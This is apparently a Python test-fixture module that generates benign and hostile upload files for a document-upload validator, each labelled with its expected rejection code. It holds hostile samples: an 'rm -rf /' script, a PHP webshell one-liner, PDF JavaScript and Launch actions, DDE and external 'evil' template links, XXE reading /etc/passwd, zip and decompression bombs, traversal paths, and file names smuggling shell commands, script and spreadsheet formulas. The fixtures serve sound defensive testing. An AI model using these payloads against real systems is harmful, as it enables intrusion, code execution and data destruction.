"""Files as people send them, and more than a hundred as nobody should: made here, so that none lies in the repository.

Each hostile one says how it should end: the code of its refusal, or the type as which it is kept, harmless.
"""

from __future__ import annotations

import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache
from io import BytesIO

import pikepdf
from openpyxl import Workbook
from PIL import Image

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + b"$H+H*"
DECLARED = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
SCRIPT = b"<html><script>alert(1)</script></html>"


@cache
def pdf() -> bytes:
    made, out = pikepdf.new(), BytesIO()
    made.add_blank_page()
    made.save(out)
    return out.getvalue()


def pdf_with(catalogue: dict[str, object], **saved: object) -> bytes:
    """A PDF with these entries in its catalogue."""
    made, out = pikepdf.new(), BytesIO()
    made.add_blank_page()
    for name, value in catalogue.items():
        made.Root[name] = value
    made.save(out, **saved)
    return out.getvalue()


def action(kind: str, **more: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(kind), **more)


@cache
def jpeg(exif: bool = False) -> bytes:
    picture, out = Image.new("RGB", (64, 48), (200, 30, 30)), BytesIO()
    given = Image.Exif()
    given[0x010F], given[0x0112] = "Telephone of Robin's mother", 6
    given.get_ifd(0x8825)[2] = (52.8, 7.0, 0.0)
    picture.save(out, "JPEG", **({"exif": given} if exif else {}))
    return out.getvalue()


@cache
def png(size: tuple[int, int] = (64, 48)) -> bytes:
    out = BytesIO()
    Image.new("RGBA", size, (0, 80, 200, 128)).save(out, "PNG")
    return out.getvalue()


def zipped(parts: dict[str, bytes | str], packed: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", packed) as file:
        for name, data in parts.items():
            file.writestr(name, data)
    return out.getvalue()


def word_parts(body: str = "<w:p><w:r><w:t>Dear Ms Carter</w:t></w:r></w:p>") -> dict[str, bytes | str]:
    main = f"{WORD}.document.main+xml"
    return {
        "[Content_Types].xml": f'{DECLARED}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="{main}"/>'
        "</Types>",
        "_rels/.rels": f'{DECLARED}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://x/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'{DECLARED}<w:document xmlns:w="http://w"><w:body>{body}</w:body></w:document>',
    }


def docx(**more: bytes | str) -> bytes:
    return zipped(word_parts() | more)


def docx_with(more: dict[str, bytes | str]) -> bytes:
    return zipped(word_parts() | more)


@cache
def xlsx() -> bytes:
    book, out = Workbook(), BytesIO()
    book.active.append(["Day", "Present", '=HYPERLINK("http://x")'])
    book.save(out)
    return out.getvalue()


def odt(**more: bytes | str) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        file.writestr("content.xml", f'{DECLARED}<office:document-content xmlns:office="urn:o"/>')
        for name, data in more.items():
            file.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def honest() -> dict[str, tuple[bytes, str]]:
    """What people send: by name, the bytes and the type."""
    link = ('<Relationships xmlns="r"><Relationship Id="a" Type="http://x/hyperlink" Target="https://gov.uk"'
            ' TargetMode="External"/></Relationships>')  # fmt: skip
    return {
        "report.pdf": (pdf(), "pdf"), "photo.jpg": (jpeg(exif=True), "jpeg"), "drawing.png": (png(), "png"),
        "letter.docx": (docx(), "docx"), "register.xlsx": (xlsx(), "xlsx"), "letter.odt": (odt(), "odt"),
        "notes.txt": ("Seen at home. Cost £5 — née Łuck\r\n".encode(), "text"),
        "old.txt": ("Cost £5".encode("cp1252"), "text"), "wide.txt": ("Zażółć".encode("utf-16"), "text"),
        "links.docx": (docx_with({"word/_rels/document.xml.rels": link}), "docx"),
        "chart.docx": (docx_with({"word/embeddings/Book1.xlsx": xlsx()}), "docx"),
        "spaces at the end.pdf": (pdf() + b"\r\n\r\n", "pdf"),
        "owner's rights.pdf": (pdf_with({}, encryption=pikepdf.Encryption(owner="o", user="")), "pdf"),
        "photo.heic.jpg": (jpeg(), "jpeg"),
    }  # fmt: skip


def hostile() -> dict[str, tuple[bytes, str]]:
    """By the name it is sent with: the bytes, and how it should end."""
    made: dict[str, tuple[bytes, str]] = {}
    for several in (
        _other_types(),
        _cut(),
        _polyglots(),
        _pdfs(),
        _packages(),
        _bombs(),
        _pictures(),
        _names(),
    ):
        for name, data, ends in several:
            made[name] = (data, ends)
    return made


Odd = Iterator[tuple[str, bytes, str]]


def _other_types() -> Odd:
    yield "empty.pdf", b"", "empty"
    yield "spaces.txt", b" \r\n\t ", "empty"
    yield "page.pdf", SCRIPT, "page"
    yield "page.jpg", b"  \n<!DOCTYPE html><title>x</title>", "page"
    yield "page.txt", b"\xef\xbb\xbf<html>", "page"
    yield "wide page.txt", "<script>alert(1)</script>".encode("utf-16"), "page"
    yield "picture.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "page"
    yield "data.docx", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>', "page"
    yield "shell.txt", b"#!/bin/sh\nrm -rf /\n", "page"
    yield "php.txt", b"<?php system($_GET[0]);", "page"
    yield "program.pdf", b"MZ\x90\x00" + bytes(100), "type"
    yield "linux.jpg", b"\x7fELF" + bytes(100), "type"
    yield "java.docx", b"\xca\xfe\xba\xbe" + bytes(40), "type"
    yield "rich.docx", rb"{\rtf1\ansi{\object\objocx}}", "type"
    yield "mail.txt", b"From: a@b.c\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<b>x</b>", "mail"
    yield "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old office"
    yield (
        "locked.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
        "locked",
    )
    yield "photo.heic", b"\0\0\0\x18ftypheic" + bytes(30), "heic"
    yield "film.jpg", b"\0\0\0\x18ftypisom" + bytes(30), "type"
    yield "picture.gif", b"GIF89a" + bytes(30), "type"
    yield "picture.webp", b"RIFF\x10\0\0\0WEBPVP8 " + bytes(30), "type"
    yield "picture.bmp", b"BM" + bytes(60), "type"
    yield "picture.tif", b"II*\0" + bytes(60), "type"
    yield "gz.pdf", zlib.compress(b"x" * 1000, wbits=31), "type"
    yield "seven.docx", b"7z\xbc\xaf\x27\x1c" + bytes(60), "type"
    yield "rar.docx", b"Rar!\x1a\x07\x01\0" + bytes(60), "type"
    yield "post.pdf", b"%!PS-Adobe-3.0\n(x) run\x01", "type"
    yield "bell.txt", b"Ring\x07 the bell", "type"
    yield "nul.txt", b"Seen\0 at home", "type"
    yield "escape.txt", b"\x1b[2J\x1b]0;x\x07", "type"
    yield "half letter.txt", b"\xff\xfeA", "type"
    for number in range(8):
        chance = random.Random(number)
        yield f"noise {number}.pdf", bytes(chance.randrange(256) for _ in range(3_000)) + b"\0", "type"


def _cut() -> Odd:
    wholes = {"pdf": pdf(), "jpg": jpeg(), "png": png(), "docx": docx(), "xlsx": xlsx(), "odt": odt()}
    for ending, whole in wholes.items():
        for part in (3, 2):
            yield f"cut at 1 of {part}.{ending}", whole[: len(whole) // part], "broken"
        yield f"only its first letters.{ending}", whole[:12], "broken"
    spoilt = bytearray(png())
    spoilt[45:60] = b"\xff" * 15
    yield "spoilt.png", bytes(spoilt), "broken"
    yield "fake.pdf", b"%PDF-1.7\nnothing\n%%EOF", "broken"
    yield "fake.jpg", b"\xff\xd8\xff\xe0" + SCRIPT, "broken"
    yield "fake.png", b"\x89PNG\r\n\x1a\n" + SCRIPT, "broken"
    yield "fake.docx", b"PK\x03\x04" + SCRIPT, "broken"


def _polyglots() -> Odd:
    yield "pdf and zip.pdf", pdf() + zipped({"a.txt": "x"}), "after"
    yield "pdf and page.pdf", pdf() + SCRIPT, "after"
    yield "pdf and long page.pdf", pdf() + SCRIPT * 100, "after"
    yield "page and pdf.pdf", SCRIPT + pdf(), "page"
    yield "letters before.pdf", b"\n" + pdf(), "type"
    yield "jpeg and zip.jpg", jpeg() + zipped({"a.html": SCRIPT}), "jpeg"
    yield "jpeg and page.jpg", jpeg() + SCRIPT, "jpeg"
    yield "png and page.png", png() + SCRIPT, "png"
    yield (
        "picture with a page inside.jpg",
        jpeg()[:20] + b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT + jpeg()[20:],
        "jpeg",
    )
    yield "docx and page.docx", docx() + SCRIPT, "after"
    yield "page and docx.docx", SCRIPT + docx(), "type"
    yield "virus in a picture.jpg", jpeg() + EICAR, "jpeg"
    yield "pdf named page.html", pdf(), "pdf"
    yield "docx named.exe", docx(), "docx"
    yield "png named.pdf", png(), "png"


def _pdfs() -> Odd:
    script = action("/JavaScript", JS=pikepdf.String("app.alert(1)"))
    yield "opens.pdf", pdf_with({"/OpenAction": script}), "acts"
    yield "launches.pdf", pdf_with({"/OpenAction": action("/Launch", F=pikepdf.String("cmd.exe"))}), "acts"
    yield "hidden in a stream.pdf", pdf_with(
        {"/AA": pikepdf.Dictionary(WC=script)}, object_stream_mode=pikepdf.ObjectStreamMode.generate), "acts"  # fmt: skip
    yield (
        "named otherwise.pdf",
        pdf_with({"/OpenAction": script}).replace(b"/JavaScript", b"/J#61vaScript"),
        "acts",
    )
    names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), script]))
    )
    yield "names.pdf", pdf_with({"/Names": names}), "acts"
    yield "film.pdf", pdf_with({"/X": pikepdf.Dictionary(Type=pikepdf.Name("/RichMedia"))}), "acts"
    made, out = pikepdf.new(), BytesIO()
    made.add_blank_page()
    made.attachments["a.exe"] = b"MZ"
    made.save(out)
    yield "carries.pdf", out.getvalue(), "inside"
    yield "password.pdf", pdf_with({}, encryption=pikepdf.Encryption(owner="o", user="u")), "locked"
    out = BytesIO()
    pikepdf.new().save(out)
    yield "no pages.pdf", out.getvalue(), "broken"


def _packages() -> Odd:
    yield "archive.docx", zipped({"a.txt": "x"}), "archive"
    yield "program.docx", zipped({"a.exe": b"MZ"}), "inside"
    yield "macros.docx", docx_with({"word/vbaProject.bin": b"x"}), "macros"
    yield (
        "macros.xlsx",
        zipped({"[Content_Types].xml": "<Types/>", "xl/macrosheets/sheet1.xml": "<x/>"}),
        "macros",
    )
    kinds = word_parts()
    kinds["[Content_Types].xml"] = str(kinds["[Content_Types].xml"]).replace(
        f"{WORD}.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml")  # fmt: skip
    yield "renamed.docx", zipped(kinds), "macros"
    yield "control.docx", docx_with({"word/activeX/activeX1.bin": b"x"}), "macros"
    yield "basic.odt", odt(Basic__Standard__m="Sub x"), "macros"
    yield "listens.odt", odt(**{"styles.xml": '<x xmlns:script="s"><script:event-listener/></x>'}), "macros"
    yield "locked.odt", odt(**{"META-INF__manifest.xml": '<m xmlns:m="u"><m:encryption-data/></m>'}), "locked"
    yield "object.docx", docx_with({"word/embeddings/oleObject1.bin": b"x"}), "inside"
    yield (
        "inner macros.docx",
        docx_with({"word/embeddings/Book1.xlsx": docx_with({"xl/vbaProject.bin": b"x"})}),
        "macros",
    )
    yield (
        "inner inner.docx",
        docx_with({"word/embeddings/a.docx": docx_with({"word/embeddings/b.docx": docx()})}),
        "inside",
    )
    yield (
        "entity.docx",
        docx_with({"word/styles.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}),
        "parts",
    )
    yield (
        "wide entity.docx",
        docx_with(
            {"word/styles.xml": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x><x/>'.encode("utf-16")}
        ),
        "parts",
    )
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    yield (
        "laughs.xlsx",
        zipped(word_parts() | {"word/a.xml": f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]><x>&l9;</x>'}),
        "parts",
    )
    yield "deep.docx", docx_with({"word/styles.xml": "<a>" * 100_000 + "</a>" * 100_000}), "bomb"
    yield "unclosed.docx", docx_with({"word/styles.xml": "<a><b>"}), "broken"
    outside = '<Relationships xmlns="r"><Relationship Id="a" Type="http://x/{}" Target="http://evil/t" TargetMode="External"/></Relationships>'
    for kind in ("attachedTemplate", "oleObject", "image", "frame"):
        yield (
            f"fetches {kind}.docx",
            docx_with({"word/_rels/settings.xml.rels": outside.format(kind)}),
            "links",
        )
    yield (
        "dde.docx",
        zipped(word_parts("<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\cmd.exe</w:instrText>")),
        "links",
    )
    yield "simple dde.docx", zipped(word_parts('<w:fldSimple w:instr="DDEAUTO cmd"/>')), "links"
    yield (
        "dde.xlsx",
        zipped(word_parts() | {"xl/externalLinks/l.xml": "<externalLink><ddeLink/></externalLink>"}),
        "links",
    )
    for number, name in enumerate(
        ("../../etc/cron.d/x", "/etc/passwd", "word\\..\\x.xml", "word/a\nb.xml", "C:/x.xml")
    ):
        yield f"path {number}.docx", docx_with({name: "<x/>"}), "parts"
    nul = docx_with({"word/aXb.xml": "<x/>"}).replace(b"word/aXb.xml", b"word/a\0b.xml")
    yield "nul inside.docx", nul, "parts"
    yield "twice.docx", docx_with({"WORD/DOCUMENT.XML": "<x/>"}), "parts"
    yield "page inside.docx", docx_with({"word/a.html": SCRIPT}), "inside"
    yield "template.docx", zipped(word_parts() | {"[Content_Types].xml": "<Types/>"}), "type"
    yield (
        "no main part.docx",
        zipped({n: d for n, d in word_parts().items() if n != "word/document.xml"}),
        "type",
    )
    yield (
        "sheet.odt",
        zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<x/>"}),
        "type",
    )
    locked = bytearray(docx())
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    yield "flagged.docx", bytes(locked), "locked"
    yield "packed otherwise.docx", zipped(word_parts(), zipfile.ZIP_LZMA), "parts"


def _bombs() -> Odd:
    yield "zeros.docx", docx_with({"word/media/a.bmp": bytes(60_000_000)}), "bomb"
    yield (
        "many zeros.xlsx",
        zipped(word_parts() | {f"word/media/{n}.bmp": bytes(3_000_000) for n in range(80)}),
        "bomb",
    )
    yield "many parts.docx", docx_with({f"word/{n}.txt": b"" for n in range(6_000)}), "bomb"
    yield "lies.docx", _lying(), "broken"
    yield "shared.docx", _shared(), "bomb"
    yield (
        "inner zeros.docx",
        docx_with({"word/embeddings/a.xlsx": docx_with({"xl/media/a.bmp": bytes(60_000_000)})}),
        "bomb",
    )


def _lying() -> bytes:
    """The directory declares 10 bytes; 2,000,000 come out."""
    data = bytearray(zipped({"word/a.bmp": bytes(2_000_000)} | word_parts()))
    at = data.index(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<L", 10)
    return bytes(data)


def _shared() -> bytes:
    """Two entries of the directory that point at the same bytes."""
    data = bytearray(docx_with({"word/media/a.bmp": b"x" * 400, "word/media/b.bmp": b"x" * 400}))
    first = data.index(b"PK\x01\x02")
    places = [at for at in range(first, len(data)) if data[at : at + 4] == b"PK\x01\x02"]
    data[places[-1] + 42 : places[-1] + 46] = data[places[-2] + 42 : places[-2] + 46]
    return bytes(data)


def _pictures() -> Odd:
    yield "huge.png", _png_header(60_000, 60_000), "picture"
    yield "long.png", _png_header(50_000, 10), "picture"
    yield "none.png", _png_header(0, 0), "broken"
    yield (
        "huge.jpg",
        jpeg().replace(struct.pack(">HH", 48, 64), struct.pack(">HH", 65_000, 65_000), 1),
        "picture",
    )
    text = zlib.compress(bytes(80_000_000), 9)
    chunk = _chunk(b"zTXt", b"Comment\0\0" + text)
    yield "text bomb.png", png()[:33] + chunk + png()[33:], "broken"
    wrong = _chunk(b"iCCP", b"x\0\0" + zlib.compress(b"no profile"))
    yield "profile.png", png()[:33] + wrong + png()[33:], "png"


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))


def _png_header(width: int, height: int) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + _chunk(b"IDAT", zlib.compress(bytes(1_000))) + _chunk(b"IEND", b"")


NAMES = (
    "../../../../etc/passwd", "..\\..\\windows\\system.ini", "/etc/shadow", "C:\\con.pdf", "CON.pdf", "nul\0in the middle.pdf",
    '"><script>alert(1)</script>.pdf', "<img src=x onerror=alert(1)>.pdf", "=cmd|' /C calc'!A0.pdf", "+1+1.pdf", "@SUM(A1).pdf",
    "-2+3.pdf", "{{7*7}}.pdf", "${7*7}.pdf", "%00.pdf", "%2e%2e%2f.pdf", "photo\u202egpj.exe", "\u200b\u200d.pdf", "a\r\nX-Injected: yes.pdf",
    'quo"te; filename=evil.html', "🙈" * 60 + ".pdf", "x" * 240 + ".pdf", "\ud83d.pdf", ".", "..", ".htaccess", "Zażółć gęślą.pdf",
    "ﷺ" * 40 + ".pdf", "' OR 1=1 --.pdf", "$(reboot).pdf", "; rm -rf ~.pdf", "javascript:alert(1)//.pdf",
)  # fmt: skip


def _names() -> Odd:
    """Harmless files under such names: they are kept, and the name harms nobody."""
    for name in NAMES:
        yield name, pdf(), "pdf"
